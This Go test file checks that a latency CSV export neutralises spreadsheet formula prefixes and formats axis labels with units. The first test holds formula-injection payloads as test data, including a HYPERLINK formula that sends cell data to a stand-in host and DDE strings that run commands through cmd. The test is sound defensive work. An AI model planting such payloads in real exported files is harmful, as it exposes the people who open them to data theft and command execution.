package latency

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/fleetwright/fleetwright/modules/claim"
)

// Item 16 of issue 12: job keys and worker names that a spreadsheet would
// run as formulas are written as text.
func TestLatencyCSVNeutralisesFormulaPrefixes(t *testing.T) {
	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1", "\r=1+1"}
	var claims []claim.Claim
	for i, e := range evil {
		c := claim.Claim{Key: e, State: claim.Confirmed, Cell: e, LeasedAt: now.Add(time.Duration(i) * time.Second)}
		c.Holder.Worker = e
		claims = append(claims, c)
	}
	plain := claim.Claim{Key: "LD-100", State: claim.Confirmed, Cell: "default", LeasedAt: now}
	plain.Holder.Worker = "actor-7"
	claims = append(claims, plain)
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, claims))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(claims)+1)
	for i, e := range evil {
		for _, col := range []int{0, 2, 3} { // job, cell, worker
			require.Equal(t, "'"+e, rows[i+1][col], "row %d col %d", i+1, col)
		}
	}
	last := rows[len(rows)-1]
	require.Equal(t, []string{"LD-100", "default", "actor-7"}, []string{last[0], last[2], last[3]}, "ordinary values untouched")
}

// TestAxisLabelsCarryTheirUnitApart: the series' axis says "377 ms" and
// "1.2 s", never Go's "377ms".
func TestAxisLabelsCarryTheirUnitApart(t *testing.T) {
	for d, want := range map[time.Duration]string{0: "0 ms", 377 * time.Millisecond: "377 ms", 1249 * time.Millisecond: "1.2 s"} {
		if got := axisLabel(d); got != want {
			t.Errorf("axisLabel(%v) = %q, want %q", d, got, want)
		}
	}
}
